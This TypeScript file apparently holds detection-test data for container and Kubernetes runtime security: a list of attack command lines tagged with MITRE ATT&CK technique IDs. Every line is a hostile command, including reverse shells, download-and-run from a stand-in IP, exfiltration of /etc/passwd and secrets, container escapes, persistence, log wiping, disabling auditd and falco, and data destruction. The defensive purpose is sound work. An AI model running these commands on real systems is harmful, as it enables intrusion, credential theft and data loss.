/** Steps by the tools of the trade, written down before the rules were read. What is routine by its exec alone is left out. */
import type { Attack } from './attacks.ts';
import { attackLines } from './lines.ts';

/** Entry, techniques, command. */
export const TOOL_ATTACKS: readonly Attack[] = attackLines(String.raw`
web | T1552.005 | wget -qO- http://169.254.169.254/latest/meta-data/
exec | T1611 | mkdir -p /tmp/r && mount /dev/nvme0n1p1 /tmp/r && cat /tmp/r/root/.bash_history
exec | T1611 | cd /proc/1/root && ls; cat /proc/1/root/home/user/.ssh/id_rsa
exec | T1611 | nsenter --mount=/host/proc/1/ns/mnt -- bash -c 'crictl ps'
exec | T1611 | curl --unix-socket /run/containerd/containerd.sock http://localhost/v1/containers
exec | T1611 | socat - UNIX-CONNECT:/var/run/docker.sock
exec | T1003.008 | tail -n 20 /etc/shadow-
exec | T1003.008 | python3 -c "print(open('/etc/shadow').read())"
exec | T1003.008 | sed -n 1,5p /etc/shadow; awk -F: '{print $2}' /etc/shadow
web | T1552.001 | cat config/database.yml .env; cat /app/config/secrets.json
web | T1552.001 | find / -type f -name "*.conf" -exec grep -l password {} \;
exec | T1552.004 | find /home /root -name "id_*" -exec cat {} \;
exec | T1528 | head -c 40 /var/run/secrets/kubernetes.io/serviceaccount/token; base64 /var/run/secrets/kubernetes.io/serviceaccount/token
web | T1552.007 | curl -sk https://kubernetes.default/api/v1/namespaces/default/secrets -H "Authorization: Bearer eyJ"
web | T1105 T1222.002 | curl http://198.51.100.66/a -o a; chmod 755 a; ./a
web | T1105 | python3 -c "import os;os.system('curl http://198.51.100.66/a -o /tmp/a && sh /tmp/a')"
exec | T1105 | wget --no-check-certificate https://198.51.100.66/agent -O /usr/local/bin/agent; chmod +x /usr/local/bin/agent; agent
exec | T1105 | scp -o StrictHostKeyChecking=no u@198.51.100.66:/t /tmp/t
exec | T1105 | curl -s https://raw.githubusercontent.com/evil/x/main/x.py | python3 -
exec | T1059.004 | nc -lvnp 4444 -e /bin/sh
exec | T1059.004 | socat TCP-LISTEN:4444,reuseaddr,fork EXEC:bash,pty,stderr
exec | T1059.004 T1071 | bash -c 'sh -i >& /dev/udp/198.51.100.66/4242 0>&1'
exec | T1059.006 T1071 | python -c 'import socket,subprocess;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1);c,a=s.accept();subprocess.call(["/bin/sh","-i"],stdin=c.fileno(),stdout=c.fileno(),stderr=c.fileno())'
exec | T1059.007 T1059.004 | node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"198.51.100.66",function(){c.pipe(sh.stdin);sh.stdout.pipe(c)})})();'
web | T1059.004 T1071 | php -r '$s=fsockopen("198.51.100.66",443);$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$pipes);'
web | T1071.004 T1048.003 | for i in 1 2 3; do host $(hostname | xxd -p).$i.t.evil.example; done; host 637261776c6572.1.t.evil.example
exec | T1048 T1041 | curl -s -F 'data=@/etc/passwd' http://198.51.100.66/upload
exec | T1048.003 | tar cz /root | curl -s --upload-file - ftp://198.51.100.66/r.tgz
exec | T1048 T1041 | python3 -c "import http.client;c=http.client.HTTPConnection('198.51.100.66');c.request('POST','/',open('/etc/passwd','rb').read())"
exec | T1048.003 | base64 /etc/passwd | nc -u -w1 198.51.100.66 53
exec | T1567 | curl --upload-file /tmp/d.tgz https://transfer.sh/d.tgz
exec | T1567.002 | s3cmd put /tmp/d.tgz s3://loot --access_key=AK --secret_key=SK
exec | T1560.001 T1074.001 | tar -czf /tmp/.hidden.tgz /etc /home /var/lib/elasticsearch
exec | T1560.001 | zip -qr -P x /tmp/o.zip /app
exec | T1053.003 | crontab -l | { cat; echo "@reboot /tmp/x"; } | crontab -
exec | T1053.003 | printf '* * * * * root /tmp/x\n' | tee /etc/cron.d/sysstat2
exec | T1098.004 | curl -s http://198.51.100.66/k.pub >> /root/.ssh/authorized_keys
exec | T1136.001 | useradd -m -s /bin/bash -G sudo svc; passwd svc
exec | T1548.001 | install -m 4755 /bin/bash /tmp/rootbash; /tmp/rootbash -p
exec | T1548.001 | find / -perm -u=s 2>/dev/null
exec | T1543.002 | tee /etc/systemd/system/upd.service; systemctl enable upd
exec | T1543.005 T1053.007 | cp /tmp/pod.yaml /host/etc/kubernetes/manifests/pod.yaml
exec | T1070.003 | rm -f /root/.bash_history; export HISTFILE=/dev/null
exec | T1070.002 | sed -i '/198.51.100.66/d' /var/log/auth.log; cp /dev/null /var/log/wtmp
exec | T1070.006 | touch -t 202001010101.00 /usr/bin/.x
exec | T1222.002 | chmod 777 /etc/shadow; chown nobody /etc/shadow
exec | T1562.001 | killall -9 falco; systemctl disable --now auditd
exec | T1562.004 | iptables -D INPUT 1; iptables -F OUTPUT
exec | T1036.005 | cp /tmp/x /dev/shm/kworker; /dev/shm/kworker
exec | T1027 | echo 636174202f6574632f736861646f77 | xxd -r -p | sh
exec | T1027 | bash -c "$(rev <<< 'hs | 66.001.15.891//:ptth lruc')"; eval "$(echo aWQ= | base64 -d)"
exec | T1620 T1105 | bash -c 'exec 3<>/dev/tcp/198.51.100.66/80; cat <&3 | perl -e "syscall(319)"'
web | T1496 | ./xmr-stak --noAMD -o pool.example:3333 -u x
web | T1496 T1105 | curl -s http://198.51.100.66/c.sh | bash; /tmp/kdevtmpfsi
exec | T1485 | rm -rf /usr/share/elasticsearch/data/nodes
exec | T1485 | curl -s -X DELETE "http://elasticsearch:9200/*"
exec | T1486 | openssl enc -aes-256-cbc -in /data/a.csv -out /data/a.csv.locked -k x; rm /data/a.csv
exec | T1499 | stress --cpu 8 --timeout 600
exec | T1531 | for u in a b; do passwd -l $u; done; passwd -l a
exec | T1110 | hydra -L u -P p ssh://10.244.1.10; medusa -h 10.244.1.10 -u root -P p -M ssh
exec | T1040 | tcpdump -i eth0 -A -s0 port 80 | grep -i authorization
exec | T1046 | nmap -sn 10.244.0.0/16; masscan -p80 10.0.0.0/8
exec | T1046 | nc -zvn 10.244.1.10 1-65535
exec | T1613 | ./kubeletctl pods -s 10.244.0.1; /tmp/kdigger dig all
exec | T1055 | python3 -c "import ctypes;l=ctypes.CDLL('libc.so.6');l.ptrace(16,7,0,0)"
exec | T1547.006 | insmod ./rootkit.ko; lsmod
`);
